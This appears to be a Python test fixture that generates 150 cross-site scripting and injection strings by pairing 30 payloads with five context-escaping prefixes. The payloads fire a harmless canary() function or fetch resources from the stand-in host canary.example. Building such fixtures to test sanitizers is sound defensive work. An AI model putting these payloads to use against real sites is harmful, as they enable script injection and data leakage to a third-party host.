"""A hundred and fifty strings that run `canary()`, or ask canary.example, wherever one is taken for markup."""

from itertools import product

_ATTACKS = (
    "<script>canary()</script>",
    "<img src=x onerror=canary()>",
    "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
    "<iframe src=javascript:parent.canary()></iframe>",
    "<a href=javascript:canary() id=x tabindex=1 autofocus onfocus=canary()>read on</a>",
    "<body onload=canary()>",
    "<input autofocus onfocus=canary()>",
    "<details open ontoggle=canary()>",
    "<video><source onerror=canary()></video>",
    "<audio src=x onerror=canary()></audio>",
    "<math><mtext><script>canary()</script></mtext></math>",
    "<style>@import '//canary.example/x.css';</style>",
    "<link rel=stylesheet href=//canary.example/y.css>",
    "<meta http-equiv=refresh content='0;url=//canary.example/'>",
    "<base href=//canary.example/>",
    "<object data=javascript:canary()></object>",
    "<embed src=//canary.example/z.swf>",
    "<button autofocus onfocus=canary()>go</button>",
    "javascript:canary()",
    "[read on](javascript:canary()) ![seen](https://canary.example/p.png)",
    "{{constructor.constructor('canary()')()}} ${canary()} #{canary()}",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "<marquee onstart=canary()>",
    "<template><script>canary()</script></template><script src=//canary.example/s.js></script>",
    '<noscript><p title="</noscript><img src=x onerror=canary()>">',
    "<xmp><img src=x onerror=canary()></xmp>",
    "%3Cscript%3Ecanary()%3C/script%3E &lt;script&gt;canary()&lt;/script&gt;",
)
_WAYS_IN = ("", '">', "' x='", "</script></style></textarea></title>", "--> ]]> */ </q></p></mark>")

HOSTILE = tuple(way + attack for way, attack in product(_WAYS_IN, _ATTACKS))
